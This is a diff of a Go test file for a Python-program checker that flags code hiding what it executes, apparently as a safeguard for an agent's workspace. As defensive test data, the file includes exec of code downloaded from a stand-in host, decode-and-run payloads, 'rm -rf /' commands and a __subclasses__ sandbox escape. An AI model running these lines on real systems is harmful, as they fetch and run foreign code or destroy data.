@@ -6,51 +6,84 @@ import (
 	"testing"
 )
 
-// home is where the programs of these tests run.
+// homePlace is where the programs of these tests run.
 var homePlace = Place{Workdir: "/workspace", Home: "/home/agent"}
 
 func TestOrdinaryProgramsHideNothing(t *testing.T) {
+	t.Parallel()
 	for name, source := range map[string]string{
-		"an empty program":          "",
-		"only a comment":            "# nothing\n",
-		"reading JSON":              "import json\nwith open('data.json') as f:\n    d = json.load(f)\nprint(d['a'], len(d))\n",
-		"a table":                   "import csv, math\nrows = list(csv.DictReader(open('x.csv')))\nprint(sum(float(r['v']) for r in rows) / max(1, len(rows)), math.pi)\n",
-		"pandas":                    "import pandas as pd\ndf = pd.read_csv('a.csv')\ndf['b'] = df.a.apply(lambda x: x * 2)\nprint(df.groupby('b').mean().head())\ndf.to_csv('out.csv')\n",
-		"an API call":               "import requests\nr = requests.get('https://api.test/v1/items', params={'q': 'x'}, timeout=10)\nr.raise_for_status()\nfor item in r.json()['items']:\n    print(item['name'])\n",
-		"git status":                "import subprocess\nout = subprocess.run(['git', 'status'], capture_output=True, text=True, check=True).stdout\nprint(out)\n",
-		"a commit with a message":   "import subprocess, sys\nmsg = sys.argv[1]\nsubprocess.run(['git', 'commit', '-m', msg])\n",
-		"a function around a shell": "import subprocess\ndef run(cmd, check=True):\n    print('+', cmd)\n    return subprocess.run(cmd, shell=True, check=check)\nrun('git status')\nrun('make test', check=False)\n",
-		"a chain of functions":      "import os\ndef a(x): return b(x)\ndef b(y): return os.system(y)\na('ls')\n",
-		"a class around a shell":    "import subprocess\nclass Runner:\n    def __init__(self, cwd):\n        self.cwd = cwd\n    def run(self, *args):\n        return self.sh(['git', 'status'])\n    def sh(self, cmd):\n        return subprocess.check_output(cmd, cwd=self.cwd)\nRunner('/workspace').run()\n",
-		"a command in parts":        "import subprocess\ncmd = ['git', 'log']\nif len(cmd) > 1:\n    cmd.append('--oneline')\ncmd += ['-n', str(5)]\nsubprocess.run(cmd)\n",
-		"a text in parts":           "import os\ncmd = 'ls'\ncmd += ' -l'\nos.system(cmd)\n",
-		"files in a loop":           "import subprocess\nfor f in ['a.py', 'b.py']:\n    subprocess.run(['python3', '-m', 'py_compile', f])\n",
-		"a class of data":           "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int = 0\n    def dist(self) -> float:\n        return abs(self.x)\nprint(P(3).dist())\n",
-		"the newest syntax":         "import g, h, k\nx, d = {}, {}\nmatch x:\n    case {'a': [1, *rest]} if rest:\n        print(f'{rest!r:>{10}} {x=}')\n    case _:\n        pass\ntype A = int\nasync def f():\n    async with g() as h, k():\n        await h\n    return [y async for y in h]\nprint(f\"{d[\"k\"]}\")\nif (n := 3) > 2: print(n)\nwith (open('a') as f, open('b') as g):\n    pass\ndef q(a, /, b, *, c=1, **k): yield from a\n",
-		"text about a command":      "print('never run rm -rf / or os.system(x)')\n",
-		"an unused function":        "import os\ndef run(cmd):\n    os.system(cmd)\n",
-		"eval of a literal":         "print(eval('1 + 2'))",
-		"regular expressions":       "import re\np = re.compile(r'\\d+')\nprint(p.findall('a1'))\n",
-		"the environment's copy":    "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\nsubprocess.run(['make'], env=env)\nsubprocess.run(['make'], env={**os.environ, 'B': 'c'})\n",
-		"an attribute by name":      "class C:\n    a = 1\nfor k in ('a',):\n    print(getattr(C(), k, None))\n",
-		"the interpreter":           "import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'pytest', '-q'])\n",
-		"temporary files":           "import tempfile, os\nwith tempfile.TemporaryDirectory() as d:\n    p = os.path.join(d, 'x')\n    open(p, 'w').write('a')\n    os.remove(p)\n",
-		"a web server":              "from http.server import BaseHTTPRequestHandler, HTTPServer\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.send_response(200)\nHTTPServer(('127.0.0.1', 8000), H).serve_forever()\n",
-		"arguments":                 "import argparse\np = argparse.ArgumentParser()\np.add_argument('--n', type=int, default=1)\nargs = p.parse_args()\nprint(args.n)\n",
-		"threads":                   "from concurrent.futures import ThreadPoolExecutor\ndef f(x): return x * x\nwith ThreadPoolExecutor() as e:\n    print(list(e.map(f, range(9))))\n",
-		"a main function":           "import os, sys, logging\nlog = logging.getLogger(__name__)\nHERE = os.path.dirname(os.path.abspath(__file__))\ndef main(argv=None):\n    os.makedirs(os.path.join(HERE, 'out'), exist_ok=True)\n    for root, dirs, files in os.walk(HERE):\n        for f in files:\n            log.info('%s', os.path.join(root, f))\n    return 0\nif __name__ == '__main__':\n    sys.exit(main())\n",
-		"subcommands":               "import argparse, subprocess\ndef build(args):\n    subprocess.check_call(['make', '-j', str(args.jobs)] + args.targets)\np = argparse.ArgumentParser()\ns = p.add_subparsers()\nb = s.add_parser('build')\nb.set_defaults(func=build)\nargs = p.parse_args()\nargs.func(args)\n",
-		"paths":                     "from pathlib import Path\nfor p in sorted(Path('src').rglob('*.py')):\n    t = p.read_text()\n    p.write_text(t.replace('a', 'b'))\n",
-		"a database":                "import sqlite3\nc = sqlite3.connect('x.db')\nc.execute('select 1')\nprint(c.fetchall())\n",
-		"enumerations":              "from enum import Enum\nfrom typing import Optional\nclass C(Enum):\n    A = 1\ndef f(x: Optional[C] = None) -> dict[str, int]:\n    return {k: v for k, v in zip('ab', [1, 2]) if v}\nprint(f(C.A))\n",
-		"tests":                     "import unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n        self.assertEqual(1, 1)\nunittest.main()\n",
-		"asynchronous work":         "import asyncio\nasync def main():\n    p = await asyncio.create_subprocess_exec('git', 'status', stdout=asyncio.subprocess.PIPE)\n    out, _ = await p.communicate()\n    print(out.decode())\nasyncio.run(main())\n",
-		"a retried command":         "import subprocess, time\ndef sh(*cmd):\n    for i in range(3):\n        try:\n            return subprocess.run(['git', 'fetch'], check=True, timeout=60)\n        except subprocess.CalledProcessError as e:\n            print(e.stderr)\n            time.sleep(i)\n    raise SystemExit(1)\nsh()\n",
-		"a list that a loop grows":  "import subprocess\ncmd = ['git', 'add']\nfor f in open('list').read().splitlines():\n    cmd.append(f)\nsubprocess.run(cmd, check=True)\n",
-		"words of a list":           "import subprocess\nsubprocess.run('git status'.split(), check=True)\n",
-		"a table of environment":    "import os\nkey = os.environ.get('API_KEY') or os.environ['OTHER']\nif not key:\n    raise RuntimeError('no key')\n",
-		"starred arguments":         "import subprocess\ndef git(*args):\n    return subprocess.run(['git', *args], capture_output=True).stdout\nprint(git('log', '-1'), git('status'))\n",
-		"a pattern of words":        "import shlex, subprocess\nsubprocess.run(shlex.split('git log --oneline'))\n",
+		"an empty program": "",
+		"only a comment":   "# nothing\n",
+		"reading JSON":     "import json\nwith open('data.json') as f:\n    d = json.load(f)\nprint(d['a'], len(d))\n",
+		"a table": "import csv, math\nrows = list(csv.DictReader(open('x.csv')))\nprint(sum(float(r['v']) for r in " +
+			"rows) / max(1, len(rows)), math.pi)\n",
+		"pandas": "import pandas as pd\ndf = pd.read_csv('a.csv')\ndf['b'] = df.a.apply(lambda x: x * 2)\n" +
+			"print(df.groupby('b').mean().head())\ndf.to_csv('out.csv')\n",
+		"an API call": "import requests\nr = requests.get('https://api.test/v1/items', params={'q': 'x'}, timeout=10)\n" +
+			"r.raise_for_status()\nfor item in r.json()['items']:\n    print(item['name'])\n",
+		"git status": "import subprocess\nout = subprocess.run(['git', 'status'], capture_output=True, text=True, " +
+			"check=True).stdout\nprint(out)\n",
+		"a commit with a message": "import subprocess, sys\nmsg = sys.argv[1]\nsubprocess.run(['git', 'commit', '-m', msg])\n",
+		"a function around a shell": "import subprocess\ndef run(cmd, check=True):\n    print('+', cmd)\n" +
+			"    return subprocess.run(cmd, shell=True, check=check)\nrun('git status')\nrun('make test', check=False)\n",
+		"a chain of functions": "import os\ndef a(x): return b(x)\ndef b(y): return os.system(y)\na('ls')\n",
+		"a class around a shell": "import subprocess\nclass Runner:\n    def __init__(self, cwd):\n        self.cwd = cwd\n" +
+			"    def run(self, *args):\n        return self.sh(['git', 'status'])\n    def sh(self, cmd):\n" +
+			"        return subprocess.check_output(cmd, cwd=self.cwd)\nRunner('/workspace').run()\n",
+		"a command in parts": "import subprocess\ncmd = ['git', 'log']\nif len(cmd) > 1:\n    cmd.append('--oneline')\n" +
+			"cmd += ['-n', str(5)]\nsubprocess.run(cmd)\n",
+		"a text in parts": "import os\ncmd = 'ls'\ncmd += ' -l'\nos.system(cmd)\n",
+		"files in a loop": "import subprocess\nfor f in ['a.py', 'b.py']:\n    subprocess.run(['python3', '-m', " +
+			"'py_compile', f])\n",
+		"a class of data": "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int = 0\n" +
+			"    def dist(self) -> float:\n        return abs(self.x)\nprint(P(3).dist())\n",
+		"the newest syntax": "import g, h, k\nx, d = {}, {}\nmatch x:\n    case {'a': [1, *rest]} if rest:\n" +
+			"        print(f'{rest!r:>{10}} {x=}')\n    case _:\n        pass\ntype A = int\nasync def f():\n" +
+			"    async with g() as h, k():\n        await h\n    return [y async for y in h]\nprint(f\"{d[\"k\"]}\")\n" +
+			"if (n := 3) > 2: print(n)\nwith (open('a') as f, open('b') as g):\n    pass\ndef q(a, /, b, *, c=1, **k): yield from a\n",
+		"text about a command": "print('never run rm -rf / or os.system(x)')\n",
+		"an unused function":   "import os\ndef run(cmd):\n    os.system(cmd)\n",
+		"eval of a literal":    "print(eval('1 + 2'))",
+		"regular expressions":  "import re\np = re.compile(r'\\d+')\nprint(p.findall('a1'))\n",
+		"the environment's copy": "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\n" +
+			"subprocess.run(['make'], env=env)\nsubprocess.run(['make'], env={**os.environ, 'B': 'c'})\n",
+		"an attribute by name": "class C:\n    a = 1\nfor k in ('a',):\n    print(getattr(C(), k, None))\n",
+		"the interpreter":      "import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'pytest', '-q'])\n",
+		"temporary files": "import tempfile, os\nwith tempfile.TemporaryDirectory() as d:\n    p = os.path.join(d, 'x')\n" +
+			"    open(p, 'w').write('a')\n    os.remove(p)\n",
+		"a web server": "from http.server import BaseHTTPRequestHandler, HTTPServer\nclass H(BaseHTTPRequestHandler):\n" +
+			"    def do_GET(self):\n        self.send_response(200)\nHTTPServer(('127.0.0.1', 8000), H).serve_forever()\n",
+		"arguments": "import argparse\np = argparse.ArgumentParser()\np.add_argument('--n', type=int, default=1)\n" +
+			"args = p.parse_args()\nprint(args.n)\n",
+		"threads": "from concurrent.futures import ThreadPoolExecutor\ndef f(x): return x * x\n" +
+			"with ThreadPoolExecutor() as e:\n    print(list(e.map(f, range(9))))\n",
+		"a main function": "import os, sys, logging\nlog = logging.getLogger(__name__)\nHERE = " +
+			"os.path.dirname(os.path.abspath(__file__))\ndef main(argv=None):\n    os.makedirs(os.path.join(HERE, 'out'), " +
+			"exist_ok=True)\n    for root, dirs, files in os.walk(HERE):\n        for f in files:\n            log.info('%s', " +
+			"os.path.join(root, f))\n    return 0\nif __name__ == '__main__':\n    sys.exit(main())\n",
+		"subcommands": "import argparse, subprocess\ndef build(args):\n    subprocess.check_call(['make', '-j', " +
+			"str(args.jobs)] + args.targets)\np = argparse.ArgumentParser()\ns = p.add_subparsers()\nb = s.add_parser('build')\n" +
+			"b.set_defaults(func=build)\nargs = p.parse_args()\nargs.func(args)\n",
+		"paths": "from pathlib import Path\nfor p in sorted(Path('src').rglob('*.py')):\n    t = p.read_text()\n" +
+			"    p.write_text(t.replace('a', 'b'))\n",
+		"a database": "import sqlite3\nc = sqlite3.connect('x.db')\nc.execute('select 1')\nprint(c.fetchall())\n",
+		"enumerations": "from enum import Enum\nfrom typing import Optional\nclass C(Enum):\n    A = 1\n" +
+			"def f(x: Optional[C] = None) -> dict[str, int]:\n    return {k: v for k, v in zip('ab', [1, 2]) if v}\nprint(f(C.A))\n",
+		"tests": "import unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n" +
+			"        self.assertEqual(1, 1)\nunittest.main()\n",
+		"asynchronous work": "import asyncio\nasync def main():\n    p = await asyncio.create_subprocess_exec('git', " +
+			"'status', stdout=asyncio.subprocess.PIPE)\n    out, _ = await p.communicate()\n    print(out.decode())\nasyncio.run(main())\n",
+		"a retried command": "import subprocess, time\ndef sh(*cmd):\n    for i in range(3):\n        try:\n" +
+			"            return subprocess.run(['git', 'fetch'], check=True, timeout=60)\n        except " +
+			"subprocess.CalledProcessError as e:\n            print(e.stderr)\n            time.sleep(i)\n    raise SystemExit(1)\nsh()\n",
+		"a list that a loop grows": "import subprocess\ncmd = ['git', 'add']\nfor f in open('list').read().splitlines():\n" +
+			"    cmd.append(f)\nsubprocess.run(cmd, check=True)\n",
+		"words of a list": "import subprocess\nsubprocess.run('git status'.split(), check=True)\n",
+		"a table of environment": "import os\nkey = os.environ.get('API_KEY') or os.environ['OTHER']\nif not key:\n" +
+			"    raise RuntimeError('no key')\n",
+		"starred arguments": "import subprocess\ndef git(*args):\n    return subprocess.run(['git', *args], " +
+			"capture_output=True).stdout\nprint(git('log', '-1'), git('status'))\n",
+		"a pattern of words": "import shlex, subprocess\nsubprocess.run(shlex.split('git log --oneline'))\n",
 	} {
 		t.Run(name, func(t *testing.T) {
 			c := Python(source, homePlace)
@@ -65,43 +98,49 @@ func TestOrdinaryProgramsHideNothing(t *testing.T) {
 }
 
 func TestProgramsThatHideWhatTheyRun(t *testing.T) {
+	t.Parallel()
 	for name, c := range map[string]struct{ source, feature string }{
-		"exec of input":                    {"exec(input())", "dynamic_exec"},
-		"exec under another name":          {"e = exec\ne(input())", "dynamic_exec"},
-		"exec from builtins":               {"import builtins\nbuiltins.exec(x)", "dynamic_exec"},
-		"exec by getattr":                  {"getattr(__builtins__, 'ex' + 'ec')(x)", "dynamic_exec"},
-		"exec by globals":                  {"globals()['__builtins__']['exec'](x)", "dynamic_exec"},
-		"compiled code":                    {"exec(compile(open('f').read(), 'f', 'exec'))", "dynamic_exec"},
-		"an attribute that is not known":   {"import os\ngetattr(os, name)('x')", "dynamic_exec"},
-		"a method that is not known":       {"getattr(obj, name)()", "dynamic_exec"},
-		"a module that is not known":       {"__import__(name)", "dynamic_import"},
-		"a module from a file":             {"import importlib.util\nimportlib.util.spec_from_file_location('a', p)", "dynamic_import"},
-		"pickle":                           {"import pickle\npickle.loads(data)", "dynamic_exec"},
-		"marshal":                          {"from marshal import loads as l\nl(data)", "dynamic_exec"},
-		"ctypes":                           {"import ctypes\nctypes.CDLL(None).system(b'ls')", "ctypes"},
-		"subclasses":                       {"().__class__.__base__.__subclasses__()[104].load_module('os')", "dynamic_exec"},
-		"globals of a function":            {"f.__globals__['os'].system(x)", "dynamic_exec"},
-		"exec of what was downloaded":      {"import requests\nexec(requests.get('https://x.test/p.py').text)", "download_and_run"},
-		"exec of what was decoded":         {"import base64\nexec(base64.b64decode(data))", "decode_and_run"},
-		"a shell of what was downloaded":   {"import os, urllib.request as u\nos.system(u.urlopen('https://x.test/p').read().decode())", "download_and_run"},
-		"shell text that is not known":     {"import os\nos.system(input())", ""},
-		"shell text with an unknown part":  {"import os\nos.system(f'ls {x}')", ""},
-		"a program that is not known":      {"import subprocess, sys\nsubprocess.run([sys.argv[1], 'x'])", ""},
-		"a command that is not known":      {"import subprocess\nsubprocess.run(cmd())", ""},
-		"a function handed on":             {"import os\nlist(map(os.system, cmds))", ""},
-		"a thread of os.system":            {"import os, threading\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()", "dynamic_exec"},
-		"os.system in a list":              {"import os\n[os.system, f][i](x)", ""},
-		"os.system in a partial":           {"import os, functools\nfunctools.partial(os.system, 'id')()", "dynamic_exec"},
-		"os.system in an attribute":        {"import os\nclass A: pass\na = A()\na.r = os.system\na.r(input())", ""},
-		"a callback with a shell":          {"import os\ndef run(c): os.system(c)\nregister(run)", ""},
-		"a decorated function":             {"import os\n@app.route('/')\ndef run(c): os.system(c)", ""},
-		"a subclass's method":              {"import os, cmd\nclass C(cmd.Cmd):\n    def do_x(self, c): os.system(c)", ""},
-		"a program fed by a pipe":          {"import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'id')", ""},
+		"exec of input":                  {"exec(input())", "dynamic_exec"},
+		"exec under another name":        {"e = exec\ne(input())", "dynamic_exec"},
+		"exec from builtins":             {"import builtins\nbuiltins.exec(x)", "dynamic_exec"},
+		"exec by getattr":                {"getattr(__builtins__, 'ex' + 'ec')(x)", "dynamic_exec"},
+		"exec by globals":                {"globals()['__builtins__']['exec'](x)", "dynamic_exec"},
+		"compiled code":                  {"exec(compile(open('f').read(), 'f', 'exec'))", "dynamic_exec"},
+		"an attribute that is not known": {"import os\ngetattr(os, name)('x')", "dynamic_exec"},
+		"a method that is not known":     {"getattr(obj, name)()", "dynamic_exec"},
+		"a module that is not known":     {"__import__(name)", "dynamic_import"},
+		"a module from a file":           {"import importlib.util\nimportlib.util.spec_from_file_location('a', p)", "dynamic_import"},
+		"pickle":                         {"import pickle\npickle.loads(data)", "dynamic_exec"},
+		"marshal":                        {"from marshal import loads as l\nl(data)", "dynamic_exec"},
+		"ctypes":                         {"import ctypes\nctypes.CDLL(None).system(b'ls')", "ctypes"},
+		"subclasses":                     {"().__class__.__base__.__subclasses__()[104].load_module('os')", "dynamic_exec"},
+		"globals of a function":          {"f.__globals__['os'].system(x)", "dynamic_exec"},
+		"exec of what was downloaded":    {"import requests\nexec(requests.get('https://x.test/p.py').text)", "download_and_run"},
+		"exec of what was decoded":       {"import base64\nexec(base64.b64decode(data))", "decode_and_run"},
+		"a shell of what was downloaded": {"import os, urllib.request as u\nos.system(u.urlopen('https://x.test/p').read().decode())",
+			"download_and_run"},
+		"shell text that is not known":    {"import os\nos.system(input())", ""},
+		"shell text with an unknown part": {"import os\nos.system(f'ls {x}')", ""},
+		"a program that is not known":     {"import subprocess, sys\nsubprocess.run([sys.argv[1], 'x'])", ""},
+		"a command that is not known":     {"import subprocess\nsubprocess.run(cmd())", ""},
+		"a function handed on":            {"import os\nlist(map(os.system, cmds))", ""},
+		"a thread of os.system": {"import os, threading\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()",
+			"dynamic_exec"},
+		"os.system in a list":       {"import os\n[os.system, f][i](x)", ""},
+		"os.system in a partial":    {"import os, functools\nfunctools.partial(os.system, 'id')()", "dynamic_exec"},
+		"os.system in an attribute": {"import os\nclass A: pass\na = A()\na.r = os.system\na.r(input())", ""},
+		"a callback with a shell":   {"import os\ndef run(c): os.system(c)\nregister(run)", ""},
+		"a decorated function":      {"import os\n@app.route('/')\ndef run(c): os.system(c)", ""},
+		"a subclass's method":       {"import os, cmd\nclass C(cmd.Cmd):\n    def do_x(self, c): os.system(c)", ""},
+		"a program fed by a pipe": {"import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\n" +
+			"p.communicate(b'id')", ""},
 		"other values in a loop":           {"import os\nc = 'ls'\nwhile True:\n    os.system(c)\n    c = input()", ""},
 		"a global that a function changes": {"import os\nc = 'ls'\ndef f():\n    global c\n    c = input()\nf()\nos.system(c)", ""},
 		"a script it wrote from input":     {"import os\nopen('x.sh', 'w').write(data)\nos.system('sh x.sh')", ""},
-		"a script it downloaded":           {"import os, urllib.request\nurllib.request.urlretrieve('https://x.test/x.sh', 'x.sh')\nos.system('sh x.sh')", "download_and_run"},
-		"a property that is os.system":     {"import os\nclass A:\n    @property\n    def r(self): return os.system\nA().r('id')", "dynamic_exec"},
+		"a script it downloaded": {"import os, urllib.request\nurllib.request.urlretrieve('https://x.test/x.sh', 'x.sh')\n" +
+			"os.system('sh x.sh')", "download_and_run"},
+		"a property that is os.system": {"import os\nclass A:\n    @property\n    def r(self): return os.system\nA().r('id')",
+			"dynamic_exec"},
 		"a script that is not known":       {"import subprocess\nsubprocess.run(['sh', '-c', x])", ""},
 		"an interpreter's unknown program": {"import subprocess\nsubprocess.run(['python3', '-c', x])", ""},
 		"a lambda that gives os.system":    {"import os\n(lambda: os.system)()('id')", "dynamic_exec"},
@@ -118,9 +157,11 @@ func TestProgramsThatHideWhatTheyRun(t *testing.T) {
 }
 
 func TestWhatIsNoPythonIsSaidSo(t *testing.T) {
+	t.Parallel()
 	for _, source := range []string{
 		"please delete all files", "rm -rf /", "x = (", "x = )", "'open", "f'{'", "f'{x'", "if x\n  y", "def f(:\n pass", "  x = 1\n y = 2",
-		"if x:\npass", "a b", "1x y", "import", "from x import", "x = 1 +", "for x y", "\x00", "\xff", "lambda", "?", "$x", "class", "return return",
+		"if x:\npass", "a b", "1x y", "import", "from x import", "x = 1 +", "for x y", "\x00", "\xff", "lambda", "?", "$x", "class",
+		"return return",
 		strings.Repeat("(", 300), strings.Repeat("[", 1<<20), strings.Repeat("-", 1<<20) + "1", strings.Repeat("not ", 1<<18) + "x",
 		strings.Repeat("f'{", 400), strings.Repeat("a", 1<<20+1),
 	} {
@@ -132,6 +173,7 @@ func TestWhatIsNoPythonIsSaidSo(t *testing.T) {
 }
 
 func TestShellTextOfPrograms(t *testing.T) {
+	t.Parallel()
 	for source, want := range map[string]string{
 		"import os; os.system('rm -rf /')":                                                                "rm -rf /",
 		"import os as o\no.system('id')":                                                                  "id",
@@ -213,8 +255,9 @@ func TestShellTextOfPrograms(t *testing.T) {
 	}
 }
 
-// Programs of one session run in one interpreter, one after another.
+// TestAProgramThatUsesWhatAnEarlierOneSetHidesItsMeaning: programs of one session run in one interpreter, one after another.
 func TestAProgramThatUsesWhatAnEarlierOneSetHidesItsMeaning(t *testing.T) {
+	t.Parallel()
 	for name, source := range map[string]string{
 		"a function":             "f('rm -rf /')",
 		"a value":                "import os\nos.system('ls')\nprint(x)",
@@ -228,8 +271,9 @@ func TestAProgramThatUsesWhatAnEarlierOneSetHidesItsMeaning(t *testing.T) {
 		}
 	}
 	for name, source := range map[string]string{
-		"bound later":          "def g():\n    return f(1)\ndef f(x): return x\ng()\n",
-		"bound as it goes":     "import a.b as c\nfrom d import e\nwith open('f') as g:\n    for h in g:\n        print([i for i in h if (j := i)], j, lambda k: k, c, e)\ntry: pass\nexcept OSError as l: print(l)\n",
+		"bound later": "def g():\n    return f(1)\ndef f(x): return x\ng()\n",
+		"bound as it goes": "import a.b as c\nfrom d import e\nwith open('f') as g:\n    for h in g:\n" +
+			"        print([i for i in h if (j := i)], j, lambda k: k, c, e)\ntry: pass\nexcept OSError as l: print(l)\n",
 		"known to Python":      "print(len(sorted({**{}})), __name__, NotImplemented, Exception, exit)",
 		"known in a class":     "class C:\n    a = __qualname__\n    def f(self): return __class__, super().f()\n",
 		"brought by a module":  "from math import *\nprint(sqrt(2))",
